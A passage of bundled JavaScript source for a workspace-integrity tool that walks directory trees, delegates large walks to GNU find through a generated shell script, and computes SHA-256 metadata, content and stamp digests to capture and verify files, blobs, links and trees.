 * sorting a directory's children costs in proportion to their number, not their subtrees' size.
 */
class Lines {
    bytes;
    start;
    nul;
    nameAt;
    end;
    /** A name's first four bytes, big-endian and zero-padded: most sibling comparisons stop here. */
    key;
    count = 0;
    /** The lines whose subtree is still open, and their depths. */
    open = [];
    openDepth = [];
    constructor(bytes) {
        this.bytes = bytes;
        // Room for lines of 32 bytes on average (a node_modules tree averages ~47): no regrowth.
        const n = Math.max(1024, Math.ceil(bytes.length / 32));
        this.start = new Int32Array(n);
        this.nul = new Int32Array(n);
        this.nameAt = new Int32Array(n);
        this.end = new Int32Array(n);
        this.key = new Uint32Array(n);
    }
    /**
     * False when a line is not `path NUL ...` (a newline inside a name splits one). One pass over
     * the bytes in plain JavaScript: a Buffer.indexOf call per line and per slash cost more than
     * the loop (measured).
     */
    scan() {
        const b = this.bytes;
        const n = b.length;
        let s = 0;
        let z = -1;
        let d = 0;
        let last = -1;
        for (let i = 0; i < n; i++) {
            const c = b[i];
            if (c === NL) {
                if (z <= s)
                    return false;
                this.push(s, z, d, last + 1);
                s = i + 1;
                z = -1;
                d = 0;
                last = i;
            }
            else if (z === -1) {
                if (c === NUL)
                    z = i;
                else if (c === SLASH) {
                    d++;
                    last = i;
                }
            }
        }
        this.closeTo(0);
        this.start = grown(this.start, this.count + 1);
        this.start[this.count] = s;
        return s === n;
    }
    push(s, z, d, nameAt) {
        const k = this.count;
        this.closeTo(d);
        if (k === this.start.length) {
            this.start = grown(this.start, k + 1);
            this.nul = grown(this.nul, k + 1);
            this.nameAt = grown(this.nameAt, k + 1);
            this.end = grown(this.end, k + 1);
            const key = new Uint32Array(this.start.length);
            key.set(this.key);
            this.key = key;
        }
        this.start[k] = s;
        this.nul[k] = z;
        this.nameAt[k] = nameAt;
        let key = 0;
        for (let i = nameAt; i < nameAt + 4; i++)
            key = key * 256 + (i < z ? this.bytes[i] : 0);
        this.key[k] = key;
        this.open.push(k);
        this.openDepth.push(d);
        this.count++;
    }
    /** Ends, at the current line, every open subtree at depth `d` or deeper. */
    closeTo(d) {
        const open = this.open;
        const depth = this.openDepth;
        while (open.length > 0 && depth[depth.length - 1] >= d) {
            depth.pop();
            this.end[open.pop()] = this.count;
        }
    }
    /** Byte order of two lines' names (names are unique among siblings: never 0). */
    compareNames(x, y) {
        const k = this.key[x] - this.key[y];
        if (k !== 0)
            return k;
        const b = this.bytes;
        let i = this.nameAt[x];
        let j = this.nameAt[y];
        const ie = this.nul[x];
        const je = this.nul[y];
        for (; i < ie && j < je; i++, j++) {
            const d = b[i] - b[j];
            if (d !== 0)
                return d;
        }
        return ie - i - (je - j);
    }
    /** Both kinds of line carry the type right after the path. */
    isDir(k) {
        return this.bytes[this.nul[k] + 1] === TYPE_DIR;
    }
    startsWith(k, prefix) {
        const b = this.bytes;
        const s = this.start[k];
        if (s + prefix.length > b.length)
            return false;
        for (let i = 0; i < prefix.length; i++)
            if (b[s + i] !== prefix[i])
                return false;
        return true;
    }
}
/** `a` with room for at least `n` elements (doubling, so pushes stay linear). */
function grown(a, n) {
    if (n <= a.length)
        return a;
    const b = new Int32Array(Math.max(n, a.length * 2));
    b.set(a);
    return b;
}
/**
 * Bytes [from, to) of `src` into `out` at `pos`. Most runs are one short line (readdir order is
 * rarely name order): a loop beats Buffer.copy's per-call checks below a few hundred bytes.
 */
function copyRun(src, from, to, out, pos) {
    if (to - from > 256)
        return src.copy(out, pos, from, to);
    for (let i = from; i < to; i++)
        out[pos++] = src[i];
    return to - from;
}
/**
 * Lines [from, to) of one start point (a preorder walk in readdir order) in the Node walker's
 * order, each directory's children sorted by name, each followed by its own subtree, copied into
 * `out` from `pos`: runs of lines that are already in order are copied at once.
 */
function sortedBlock(l, from, to, out, pos) {
    let runStart = 0;
    let runEnd = 0;
    const take = (h) => {
        const s = l.start[h];
        if (s !== runEnd) {
            pos += copyRun(l.bytes, runStart, runEnd, out, pos);
            runStart = s;
        }
        runEnd = l.start[h + 1];
    };
    // Recursion is as deep as the tree, as in the Node walker.
    const emit = (s, e) => {
        const heads = [];
        for (let i = s; i < e; i = l.end[i])
            heads.push(i);
        for (let k = 1; k < heads.length; k++)
            if (l.compareNames(heads[k - 1], heads[k]) > 0) {
                heads.sort((x, y) => l.compareNames(x, y));
                break;
            }
        for (const h of heads) {
            take(h);
            emit(h + 1, l.end[h]);
        }
    };
    emit(from, to);
    return pos + copyRun(l.bytes, runStart, runEnd, out, pos);
}
/** One find's output split among its roots (in order); false when it does not fit. */
function splitBatch(bytes, batch, roots, texts) {
    const l = new Lines(bytes);
    if (!l.scan())
        return false;
    // One buffer for the whole batch, the same size as find's output: each root gets a slice.
    const out = Buffer.allocUnsafe(bytes.length);
    let pos = 0;
    let at = 0;
    for (const i of batch) {
        // find walks its start points in order: root i's lines are the next ones under its name.
        const prefix = Buffer.from(`${roots[i].rel}/`);
        let end = at;
        let files = 0;
        while (end < l.count && l.startsWith(end, prefix))
            end = l.end[end];
        for (let k = at; k < end; k++)
            if (!l.isDir(k))
                files++;
        const next = sortedBlock(l, at, end, out, pos);
        texts[i] = { bytes: out.subarray(pos, next), files };
        pos = next;
        at = end;
    }
    return at === l.count;
}

;// CONCATENATED MODULE: ./src/core/verify/native-walk.ts
/**
 * The digest-line walk of large trees delegated to GNU find, when this machine has it. Measured
 * here on a 60,000-file tree, two find processes (C, fstatat relative to an open directory) emit
 * the lines in about half the time two Node walk workers take: Node's per-entry cost is the lstat
 * binding and its Stats object, not the system call, and a metadata check is nothing but that.
 *
 * The lines are the ones the Node walker (hash-kernel.mjs) writes, in the same order: find emits
 * each directory in readdir order, and find-lines.ts re-sorts the children by name (piping through
 * sort(1) instead, or sorting in worker threads, were both measured slower: sort cannot start
 * before find ends, and workers cost more to start than they save on two cores). Whenever the
 * result could differ in any way, this returns undefined and the caller walks in Node: no find or
 * /bin/sh at a fixed path, ignore rules other than plain names, an excluded path inside the tree,
 * anything on find's stderr (an unreadable directory: the Node walker names it), a newline in a
 * name, or a top level that find saw differently from the listing that split the work.
 * Names that are not UTF-8 or hold characters beyond U+FFFF (bytes order those differently from
 * JavaScript) need no test of their own: they make the digest differ from the recorded one, and
 * a digest that differs only ever sends the check down its full walk. Equal digests are all the
 * fast path trusts, and find's lines are the tree as it is.
 */







/** Only fixed paths: a `find` earlier in PATH is not a walker this process should trust. */
const CANDIDATES = ['/usr/bin/find', '/bin/find'];
const SH = '/bin/sh';
const SHA256SUM = '/usr/bin/sha256sum';
/**
 * The find binary to try (with /bin/sh to run it), or undefined. No version probe (a process start
 * costs more than the walk saves on small trees): a find without GNU's -printf fails, says so on
 * stderr, and the Node walker runs.
 */
function gnuFind() {
    if (process.platform !== 'linux' || !executable(SH))
        return undefined;
    return CANDIDATES.find(executable);
}
function executable(bin) {
    try {
        external_node_fs_default().accessSync(bin, (external_node_fs_default()).constants.X_OK);
        return true;
    }
    catch {
        return false;
    }
}
/**
 * find's expression: names to prune, then one -printf per type so each line is the digest line
 * itself, path relative to the tree (start points are its top-level names). `top` describes the
 * start points themselves (the tree's top level) instead of what lies below them.
 */
function findArgs(kind, ignore, top = false) {
    // \000, never \0: GNU find reads up to three octal digits, so "\0" + "0" would be one NUL.
    const line = (type, size) => kind === 'meta'
        ? `%p\\000${type}\\000${size}\\000%04m\\n`
        : `%p\\000${type}\\000%D:%i:%T@:%C@\\n`;
    const prune = ignore.flatMap((n, i) => (i === 0 ? ['-name', n] : ['-o', '-name', n]));
    return [
        ...(top ? ['-maxdepth', '0'] : ['-mindepth', '1']),
        ...(prune.length > 0 ? ['(', ...prune, ')', '-prune', '-o'] : []),
        '(',
        '-type',
        'f',
        '-printf',
        line('f', '%s'),
        '-o',
        '-type',
        'd',
        '-printf',
        line('d', '0'),
        '-o',
        '-type',
        'l',
        '-printf',
        line('l', '0'),
        '-o',
        '-printf',
        line('o', '0'),
        ')'
    ];
}
/**
 * What to undo if the process exits mid-walk (an interrupt ends swr with process.exit): one exit
 * listener for every walk in flight.
 */
const atExit = new Set();
let listening = false;
/** Runs `fn` if the process exits before the returned release is called. */
function untilDone(fn) {
    if (!listening) {
        process.on('exit', () => {
            for (const f of atExit)
                f();
        });
        listening = true;
    }
    atExit.add(fn);
    return () => atExit.delete(fn);
}
/** A word the shell reads back unchanged: any bytes but NUL, single-quoted. */
function shellWord(s) {
    return `'${s.replaceAll("'", `'\\''`)}'`;
}
/**
 * Runs the finds, or undefined when any failed or complained. One shell runs them side by side:
 * one process start instead of one per find (each start is ~5-10 ms of this process's time, on the
 * critical path). The script is a file in the private directory, so no argument-length limit
 * applies however many start points there are. find writes to files there rather than pipes:
 * measured ~60 ms faster on 60,000 entries (no pipe to drain through the event loop, no socket per
 * child). With `sum`, sha256sum hashes each output beside its find: a warm check whose outputs
 * hash as before never reads them here (reading and hashing 7 MB of stamp lines was ~45 ms of
 * this thread; sha256sum takes ~10 ms per output, on the other core).
 */
function runFinds(cwd, commands, dir, sum) {
    const outs = commands.map((_, b) => external_node_path_default().join(dir, `${b}.out`));
    const lines = commands.flatMap((argv, b) => {
        const out = shellWord(outs[b]);
        const find = `${argv.map(shellWord).join(' ')} >${out}`;
        const hash = `${SHA256SUM} <${out} >${shellWord(`${outs[b]}.sum`)}`;
        return [sum ? `{ ${find} && ${hash}; } &` : `${find} &`, `p${b}=$!`];
    });
    const waits = commands.map((_, b) => `wait "$p${b}" || s=1`);
    const script = external_node_path_default().join(dir, 'walk.sh');
    const err = external_node_path_default().join(dir, 'err');
    let errFd;
    try {
        external_node_fs_default().writeFileSync(script, ['s=0', ...lines, ...waits, 'exit "$s"', ''].join('\n'), {
            flag: 'wx',
            mode: 0o600
        });
        errFd = external_node_fs_default().openSync(err, 'wx', 0o600);
    }
    catch {
        return Promise.resolve(undefined);
    }
    return new Promise(resolve => {
        // Its own process group, so an exit mid-walk can end the shell and every find at once.
        const p = (0,external_node_child_process_.spawn)(SH, [script], {
            cwd,
            stdio: ['ignore', 'ignore', errFd],
            env: { LC_ALL: 'C', PATH: '/usr/bin:/bin' },
            detached: true
        });
        external_node_fs_default().closeSync(errFd);
        const release = untilDone(() => {
            try {
                if (p.pid)
                    process.kill(-p.pid, 'SIGKILL');
            }
            catch {
                // Already gone.
            }
        });
        p.on('error', () => {
            release();
            resolve(undefined);
        });
        p.on('exit', code => {
            release();
            // Anything on stderr (an unreadable directory) is a walk the Node walker must describe.
            if (code !== 0 || external_node_fs_default().statSync(err).size > 0)
                return resolve(undefined);
            if (!sum)
                return resolve({ outs });
            const sums = outs.map(o => /^[0-9a-f]{64}/.exec(external_node_fs_default().readFileSync(`${o}.sum`, 'latin1'))?.[0]);
            resolve(sums.every(x => x !== undefined) ? { outs, sums: sums } : undefined);
        });
    });
}
/** The raw digest: over each output's sha256, so sha256sum and this process agree on it. */
function rawDigest(sums) {
    return (0,external_node_crypto_.createHash)('sha256').update(sums.join('\n')).digest('hex');
}
/** The private output directory holds only find's files: no recursive rm (its loader costs ~3 ms). */
function removeFlat(dir) {
    try {
        for (const f of external_node_fs_default().readdirSync(dir))
            external_node_fs_default().unlinkSync(external_node_path_default().join(dir, f));
        external_node_fs_default().rmdirSync(dir);
    }
    catch {
        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
    }
}
/** Where the native walk's digests stop being the Node walker's: it then steps aside. */
function unsupported(treeRoot, top, ignore, exclude) {
    if (!allPlainNames(ignore))
        return true;
    for (const x of exclude)
        if (x === treeRoot || x.startsWith(treeRoot + '/'))
            return true;
    // A top-level name that find would read as an option or operator is left to the Node walker.
    return top.some(t => /^[-!(),]/.test(t.rel) || t.rel.includes('/'));
}
/**
 * The metadata digest or cache stamp of a tree, from find's lines: one find describes the top
 * level (the start points themselves, in walk order) and one per job walks a share of the
 * top-level directories below them. Undefined when the native walk cannot promise the Node
 * walker's lines. The raw digest (over the sha256 of each of find's outputs as they came) is
 * returned too: when it equals `known.raw`, find printed exactly what it printed when `known` was
 * computed, and the re-sort is skipped.
 */
async function nativeTreeDigest(treeRoot, top, ignore, exclude, kind, jobs, opts = {}) {
    const known = opts.known;
    const bin = gnuFind();
    if (!bin || unsupported(treeRoot, top, ignore, exclude))
        return undefined;
    const roots = top.filter(t => t.dir);
    // find with no start point would walk "." instead: every command below names at least one.
    if (roots.length === 0)
        return undefined;
    const batches = Array.from({ length: Math.max(1, Math.min(jobs, roots.length)) }, () => []);
    roots.forEach((_, i) => batches[i % batches.length].push(i));
    const args = findArgs(kind, ignore);
    const commands = [
        [bin, ...top.map(t => t.rel), ...findArgs(kind, ignore, true)],
        ...batches.map(batch => [bin, ...batch.map(i => roots[i].rel), ...args])
    ];
    const dir = external_node_fs_default().mkdtempSync(external_node_path_default().join(external_node_os_default().tmpdir(), 'swr-walk-'));
    const release = untilDone(() => removeFlat(dir));
    try {
        const sum = opts.sha256sum ?? (known !== undefined && executable(SHA256SUM));
        const found = await runFinds(treeRoot, commands, dir, sum);
        if (!found)
            return undefined;
        // The same raw digest as `known`'s: find printed the same bytes, so the tree gives the same.
        const hit = (raw) => raw === known?.raw
            ? { digest: known.digest, files: known.files, unreadable: [], raw }
            : undefined;
        const summed = found.sums && hit(rawDigest(found.sums));
        if (summed)
            return summed;
        const [topBytes, ...outputs] = found.outs.map(o => external_node_fs_default().readFileSync(o));
        const raw = rawDigest([topBytes, ...outputs].map(o => (0,external_node_crypto_.createHash)('sha256').update(o).digest('hex')));
        const subtrees = new Array(roots.length);
        return (hit(raw) ??
            (outputs.every((out, b) => splitBatch(out, batches[b], roots, subtrees))
                ? assemble(new Lines(topBytes), top, subtrees, raw)
                : undefined));
    }
    finally {
        release();
        removeFlat(dir);
    }
}
/**
 * The digest in walk order: each top-level line, then the subtree below it. Undefined when find's
 * top level is not the listing's (an entry replaced or retyped between the two).
 */
function assemble(l, top, subtrees, raw) {
    if (!l.scan() || l.count !== top.length)
        return undefined;
    const h = (0,external_node_crypto_.createHash)('sha256');
    let files = 0;
    let sub = 0;
    for (let k = 0; k < top.length; k++) {
        const t = top[k];
        const name = Buffer.from(t.rel);
        const s = l.start[k];
        if (l.nul[k] - s !== name.length || !l.startsWith(k, name) || l.isDir(k) !== t.dir)
            return undefined;
        h.update(l.bytes.subarray(s, l.start[k + 1]));
        if (!t.dir) {
            files++;
            continue;
        }
        const below = subtrees[sub++];
        h.update(below.bytes);
        files += below.files;
    }
    return { digest: h.digest('hex'), files, unreadable: [], raw };
}

;// CONCATENATED MODULE: ./src/core/verify/walk.ts
/**
 * The tree walk and the digests defined over it. Order: depth-first, children by name in JavaScript
 * string order, so no global sort is needed. Symlinks are recorded, never followed. Each record
 * contributes one line to each digest:
 *   meta:    relpath NUL type NUL size NUL mode LF         (type f, d, l or o; size 0 unless f)
 *   content: the meta line's fields, NUL sha256 (files) or link target (links), LF
 *   stamp:   relpath NUL type NUL dev:inode:mtime:ctime LF  (the incremental-cache key; times as
 *            GNU find's %T@ prints them, so the native walker's lines need no conversion)
 */










/** The incremental-cache identity of a walked entry: dev:ino:mtime_ns:ctime_ns. */
function ident(r) {
    return `${r.dev}:${r.ino}:${r.mtimeNs}:${r.ctimeNs}`;
}

const MODES = new Map();
function walk_modeText(mode) {
    let t = MODES.get(mode);
    if (t === undefined) {
        t = octal(mode);
        MODES.set(mode, t);
    }
    return t;
}
function metaLine(r) {
    return `${r.rel}\0${r.type}\0${r.type === 'f' ? r.size : 0}\0${walk_modeText(r.mode)}\n`;
}
/** Hash one line per record, in chunks (one hash update per record costs more than the hash). */
function digestLines(records, line) {
    const h = (0,external_node_crypto_.createHash)('sha256');
    const CHUNK = 2048;
    for (let i = 0; i < records.length; i += CHUNK) {
        let text = '';
        const end = Math.min(records.length, i + CHUNK);
        for (let k = i; k < end; k++)
            text += line(records[k], k);
        h.update(text);
    }
    return h.digest('hex');
}
/** The metadata digest: relpath, type, size and mode of every entry in walk order. */
function metaDigestOf(records) {
    return digestLines(records, metaLine);
}
/** One stamp line: path and identity (the worker kernel spells it the same way). */
function stampLine(r) {
    return `${r.rel}\0${r.type}\0${r.dev}:${r.ino}:${stampTime(r.mtimeNs)}:${stampTime(r.ctimeNs)}\n`;
}
/**
 * The cache stamp: every entry's path and identity (dev, inode, mtime_ns, ctime_ns). Any change of
 * type, size or mode also changes ctime, so the stamp vouches for the metadata digest too.
 */
function stampOf(records) {
    return digestLines(records, stampLine);
}
/** The record of one lstat'ed entry. */
function recordOf(rel, st) {
    const type = st.isFile()
        ? 'f'
        : st.isDirectory()
            ? 'd'
            : st.isSymbolicLink()
                ? 'l'
                : 'o';
    return {
        rel,
        type,
        size: type === 'f' ? Number(st.size) : 0,
        mode: Number(st.mode & 4095n),
        dev: st.dev,
        ino: st.ino,
        mtimeNs: st.mtimeNs,
        ctimeNs: st.ctimeNs
    };
}
/**
 * Walk the tree at `root` (already known to be a real directory), collecting one record per entry;
 * digests are computed afterwards, only those the caller needs. `exclude` holds absolute paths of
 * swr's own files (state directory, manifest, tree indexes) that are never part of a tree.
 */
function walkTree(root, ignore, exclude = new Set()) {
    const ignored = ignoreMatcher(ignore);
    const records = [];
    const unreadable = [];
    let files = 0;
    const visit = (absDir, relDir) => {
        let names;
        try {
            names = external_node_fs_default().readdirSync(absDir);
        }
        catch (err) {
            unreadable.push({ rel: relDir || '.', code: err.code ?? 'EIO' });
            return;
        }
        names.sort();
        for (const name of names) {
            const rel = relDir ? `${relDir}/${name}` : name;
            const abs = `${absDir}/${name}`;
            if (exclude.has(abs))
                continue;
            const st = external_node_fs_default().lstatSync(abs, { bigint: true, throwIfNoEntry: false });
            if (!st)
                continue; // vanished between readdir and lstat: the same as not there
            if (ignored(rel, name, st.isDirectory()))
                continue;
            const rec = recordOf(rel, st);
            records.push(rec);
            if (rec.type === 'd')
                visit(abs, rel);
            else
                files++;
        }
    };
    visit(root, '');
    return { records, files, unreadable };
}
/** The content digest, given each file's sha256 and each link's target (by record index). */
function contentDigest(records, extra) {
    return digestLines(records, (r, i) => `${metaLine(r).slice(0, -1)}\0${extra[i] ?? ''}\n`);
}
/** Link targets for the link records (readlink never follows). */
function linkTargets(root, records) {
    return records.map(r => {
        if (r.type !== 'l')
            return undefined;
        try {
            return external_node_fs_default().readlinkSync(external_node_path_default().join(root, r.rel));
        }
        catch {
            return '';
        }
    });
}
/** A walk whose digests are computed only if and when something reads them. */
function lazyDigests(walk, knownMeta) {
    let meta;
    let stamp;
    return {
        ...walk,
        get metaDigest() {
            meta ??= knownMeta?.() ?? metaDigestOf(walk.records);
            return meta;
        },
        get stamp() {
            stamp ??= stampOf(walk.records);
            return stamp;
        }
    };
}
/** The smallest number of top-level subdirectories worth splitting across workers. */
const MIN_ROOTS = 16;
/**
 * The smallest tree (recorded files) worth a find whatever its shape: starting the shell and the
 * finds costs ~15 ms, about what the Node walker spends on 1,000 entries (lstat ~10-15 µs each
 * here, plus the garbage), and find walks the rest at about half Node's cost per entry.
 */
const NATIVE_MIN_FILES = 1000;
/** The top level of a tree, when it has enough subdirectories to be worth splitting. */
function splitTop(root, ignore, exclude) {
    let names;
    try {
        names = external_node_fs_default().readdirSync(root).sort();
    }
    catch {
        return undefined;
    }
    // Workers match plain names only; a glob rule keeps the walk inline (see ignore-rules.ts).
    if (!allPlainNames(ignore))
        return undefined;
    const ignored = ignoreMatcher(ignore);
    const top = [];
    const roots = [];
    for (const name of names) {
        if (ignored(name, name))
            continue;
        const abs = `${root}/${name}`;
        if (exclude.has(abs))
            continue;
        const st = external_node_fs_default().lstatSync(abs, { bigint: true, throwIfNoEntry: false });
        if (!st)
            continue;
        const rec = recordOf(name, st);
        top.push({ rec, sub: rec.type === 'd' ? roots.push({ abs, rel: name }) - 1 : -1 });
    }
    return roots.length >= MIN_ROOTS ? { top, roots } : undefined;
}
/**
 * The top level's names in walk order, typed from the directory listing (the file system's d_type;
 * Node falls back to lstat where it is unknown). Undefined when the root cannot be listed.
 */
function listTop(root, ignore, exclude) {
    let entries;
    try {
        entries = external_node_fs_default().readdirSync(root, { withFileTypes: true });
    }
    catch {
        return undefined;
    }
    const ignored = ignoreMatcher(ignore);
    return entries
        .map(d => ({ rel: d.name, dir: d.isDirectory() }))
        .filter(t => !ignored(t.rel, t.rel, t.dir) && !exclude.has(`${root}/${t.rel}`))
        .sort((a, b) => (a.rel < b.rel ? -1 : 1));
}
/**
 * The metadata digest or the cache stamp of a large tree without building per-entry records: from
 * GNU find's lines where native-walk.ts can promise the Node walker's, else from walk workers that
 * return each subtree's lines as text, hashed here in walk order. Undefined when the tree is too
 * small or flat for either (the caller walks it inline).
 */
async function digestTreeParallel(root, ignore, exclude, opts) {
    const jobs = Math.min(opts.jobs ?? external_node_os_default().availableParallelism(), 8);
    if (opts.native !== false) {
        // find describes the top level too: only the listing is read here (no lstat per entry).
        const top = listTop(root, ignore, exclude);
        const dirs = top?.filter(t => t.dir).length ?? 0;
        if (top && dirs > 0 && (dirs >= MIN_ROOTS || (opts.expectFiles ?? 0) >= NATIVE_MIN_FILES)) {
            const r = await nativeTreeDigest(root, top, ignore, exclude, opts.kind, jobs, {
                known: opts.known
            });
            if (r)
                return r;
        }
    }
    if (jobs < 2)
        return undefined;
    const split = splitTop(root, ignore, exclude);
    if (!split)
        return undefined;
    const line = opts.kind === 'meta' ? metaLine : stampLine;
    const texts = await inWorkers({ swrTextWorker: true, kind: opts.kind }, split.roots, ignore, exclude, jobs);
    const h = (0,external_node_crypto_.createHash)('sha256');
    let files = 0;
    const unreadable = [];
    for (const { rec, sub } of split.top) {
        h.update(line(rec));
        if (rec.type !== 'd')
            files++;
        const t = sub >= 0 ? texts[sub] : undefined;
        if (!t)
            continue;
        h.update(t.text);
        files += t.files;
        unreadable.push(...t.unreadable);
    }
    return { digest: h.digest('hex'), files, unreadable };
}
/**
 * The same walk on every core: the main thread reads the top level, workers claim its
 * subdirectories one at a time (lstat, and with `hash` also the file hashes, in one pass) and the
 * results are stitched back in walk order. Small or flat trees are walked inline.
 */
async function walkTreeParallel(root, ignore, exclude, opts) {
    const jobs = Math.min(opts.jobs ?? external_node_os_default().availableParallelism(), 8);
    const split = jobs < 2 ? undefined : splitTop(root, ignore, exclude);
    if (!split)
        return walkTree(root, ignore, exclude);
    const { top, roots } = split;
    const results = await walkRootsInWorkers(roots, ignore, exclude, opts.hash, jobs);
    const records = [];
    const shas = [];
    const unreadable = [];
    for (const { rec, sub } of top) {
        records.push(rec);
        shas.push(opts.hash && rec.type === 'f' ? hashOrUndefined(`${root}/${rec.rel}`) : undefined);
        const r = sub >= 0 ? results[sub] : undefined;
        if (!r)
            continue;
        unreadable.push(...r.unreadable);
        for (let k = 0; k < r.rels.length; k++) {
            const type = r.types[k];
            records.push({
                rel: r.rels[k],
                type,
                size: r.sizes[k],
                mode: r.modes[k],
                dev: r.devs[k],
                ino: r.inos[k],
                mtimeNs: r.mtimes[k],
                ctimeNs: r.ctimes[k]
            });
            shas.push(r.shas[k] ?? undefined);
        }
    }
    const files = records.reduce((n, r) => (r.type === 'd' ? n : n + 1), 0);
    return opts.hash ? { records, files, unreadable, shas } : { records, files, unreadable };
}
function hashOrUndefined(abs) {
    const r = runJob(abs, 'full');
    return 'error' in r ? undefined : r.sha256;
}
function walkRootsInWorkers(roots, ignore, exclude, hash, jobs) {
    return inWorkers({ swrWalkWorker: true, hash }, roots, ignore, exclude, jobs);
}
/** Run the kernel's `role` over `roots` on `jobs` workers; results come back in root order. */
function inWorkers(role, roots, ignore, exclude, jobs) {
    // Only plain names reach here (splitTop steps aside for globs): the kernel compares names.
    if (!allPlainNames(ignore))
        throw new Error('walk workers take plain-name ignore rules only');
    const names = [...ignore];
    const counter = new SharedArrayBuffer(4);
    const results = new Array(roots.length);
    const workerData = {
        ...role,
        roots,
        counter,
        names,
        exclude: [...exclude]
    };
    const one = () => new Promise((resolve, reject) => {
        const w = new external_node_worker_threads_.Worker(kernelUrl(), { workerData });
        let finished = false;
        w.on('message', (m) => {
            if (m === 'done') {
                finished = true;
                resolve();
            }
            else {
                const [i, out] = m;
                results[i] = out;
            }
        });
        w.on('error', reject);
        w.on('exit', code => {
            if (!finished)
                reject(new Error(`walk worker exited with code ${code}`));
        });
    });
    return Promise.all(Array.from({ length: Math.min(jobs, roots.length) }, one)).then(() => results);
}

;// CONCATENATED MODULE: ./src/core/capture.ts
/**
 * Capturing an entry's expectations from disk, now: the healthy state becomes the truth later
 * checks compare with. Uses the same walk, hashing kernel and digests as the verifiers, so a
 * captured entry verifies by construction.
 */













/** Files at least this large are tracked as blobs unless a kind is given. */
const BLOB_THRESHOLD = 64 * 1024 * 1024;
/** Build and project files whose presence at a tree's root says what the tree is. */
const PROJECT_MARKERS = [
    'package.json',
    'CMakeLists.txt',
    'go.mod',
    'Cargo.toml',
    'pyproject.toml',
    'setup.py',
    'Makefile',
    'pom.xml',
    'build.gradle',
    'Gemfile'
];
/** Markers whose presence at a tree's root makes a good sentinel. */
const MARKERS = [...PROJECT_MARKERS, 'SKILL.md', 'README.md'];
/** An id for `rel` that matches the id rule and is not in `taken`. */
function deriveId(rel, taken) {
    const base = (rel === '.' ? 'workspace' : rel.split('/').slice(-2).join('-'))
        .replace(/[^A-Za-z0-9._-]+/g, '-')
        .replace(/^[.-]+/, '')
        .slice(0, 100) || 'entry';
    let id = base;
    for (let n = 2; taken.has(id); n++)
        id = `${base}-${n}`;
    return id;
}
async function captureEntry(workspace, req, taken, opts = {}) {
    const pool = opts.pool ?? {};
    const loc = locateInside(workspace, req.path);
    if (loc.state !== 'present')
        throw new UsageError(`${req.path}: cannot add: ${loc.why}`);
    const st = loc.st;
    const kind = req.kind ??
        (st.isSymbolicLink()
            ? 'link'
            : st.isDirectory()
                ? 'tree'
                : Number(st.size) >= BLOB_THRESHOLD
                    ? 'blob'
                    : 'file');
    const mode = Number(st.mode & 4095n);
    const wrongType = (want) => new UsageError(`${req.path}: cannot add as ${kind}: it is not ${want}`);
    if ((kind === 'file' || kind === 'blob') && !st.isFile())
        throw wrongType('a regular file');
    if (kind === 'tree' && !st.isDirectory())
        throw wrongType('a directory');
    if (kind === 'link' && !st.isSymbolicLink())
        throw wrongType('a symlink');
    const id = req.id ?? deriveId(req.path, taken);
    if (!ENTRY_ID.test(id))
        throw new UsageError(`--id ${id}: must match ${ENTRY_ID.source}`);
    if (taken.has(id))
        throw new UsageError(`entry "${id}" already exists in the manifest`);
    // A secret is tier 0 by default (its loss is a credential loss) and says why it has no escrow.
    const secret = kind === 'file'
        ? secretReason({
            rel: req.path,
            abs: loc.abs,
            ...(opts.stateDir !== undefined ? { stateDir: opts.stateDir } : {})
        })
        : undefined;
    const note = req.note ?? (secret !== undefined ? SECRET_NOTE : undefined);
    const common = {
        id,
        path: req.path,
        tier: req.tier ?? (secret !== undefined ? 0 : defaultTier(kind, req.path, mode)),
        needs: req.needs ?? [],
        ...(req.restore !== undefined ? { restore: req.restore } : {}),
        ...(req.timeout_s !== undefined ? { timeout_s: req.timeout_s } : {}),
        ...(req.smoke !== undefined ? { smoke: req.smoke } : {}),
        ...(note !== undefined ? { note } : {})
    };
    switch (kind) {
        case 'file': {
            const d = await hashOffThread(loc.abs, 'full', Number(st.size));
            if ('error' in d)
                throw new UsageError(`${req.path}: cannot read (${d.error})`);
            return {
                entry: { ...common, kind, expect: { size: d.size, sha256: d.sha256, mode: octal(d.mode) } }
            };
        }
        case 'blob': {
            const ht = hashHeadTail(loc.abs);
            const full = await hashOffThread(loc.abs, 'full', ht.size);
            if ('error' in full)
                throw new UsageError(`${req.path}: cannot read (${full.error})`);
            return {
                entry: {
                    ...common,
                    kind,
                    expect: { size: ht.size, headtail: ht.sha256, sha256: full.sha256, mode: octal(ht.mode) }
                }
            };
        }
        case 'link':
            return { entry: { ...common, kind, expect: { target: external_node_fs_default().readlinkSync(loc.abs) } } };
        case 'tree':
            return captureTree(external_node_fs_default().realpathSync(loc.abs), req, common, pool, opts.exclude ?? new Set());
    }
}
function defaultTier(kind, rel, mode) {
    if (kind === 'blob')
        return 3;
    if (kind === 'tree')
        return underVolatileDir(rel) ? 4 : 2;
    if (kind === 'link')
        return 1;
    return (mode & 0o111) !== 0 ? 1 : 2;
}
async function captureTree(root, req, common, pool, exclude) {
    const ignore = req.ignore ?? [];
    const walk = walkTree(root, ignore, exclude);
    if (walk.unreadable.length > 0) {
        throw new UsageError(`${req.path}: cannot read ${walk.unreadable.map(u => `${u.rel} (${u.code})`).join(', ')}`);
    }
    const extras = linkTargets(root, walk.records);
    const jobs = [];
    const at = [];
    walk.records.forEach((r, i) => {
        if (r.type === 'f') {
            jobs.push({ abs: external_node_path_default().join(root, r.rel), how: 'full', cost: r.size });
            at.push(i);
        }
    });
    const results = await hashAll(jobs, pool);
    results.forEach((res, k) => {
        if ('error' in res)
            throw new UsageError(`${req.path}/${walk.records[at[k] ?? 0]?.rel}: cannot read (${res.error})`);
        extras[at[k] ?? 0] = res.sha256;
    });
    const records = walk.records.map((r, i) => ({
        rel: r.rel,
        type: r.type,
        mode: r.mode,
        size: r.size,
        extra: extras[i]
    }));
    const index = encodeIndex(records);
    const sentinels = req.sentinels ??
        pickSentinels(walk.records.filter(r => r.type === 'f' && r.size > 0).map(r => r.rel));
    for (const s of sentinels) {
        const loc = locateInside(root, s);
        if (loc.state !== 'present')
            throw new UsageError(`--sentinel ${s}: not found in ${req.path}`);
        if (loc.st.isFile() && loc.st.size === 0n)
            throw new UsageError(`--sentinel ${s}: is empty in ${req.path}`);
    }
    const entry = {
        ...common,
        kind: 'tree',
        ignore,
        expect: {
            sentinels,
            min_files: req.minFiles ?? walk.files,
            max_files: req.maxFiles ?? walk.files,
            files: walk.files,
            meta_digest: metaDigestOf(walk.records),
            content_digest: contentDigest(walk.records, extras),
            index: indexRef(index, records.length)
        }
    };
    return { entry, index };
}
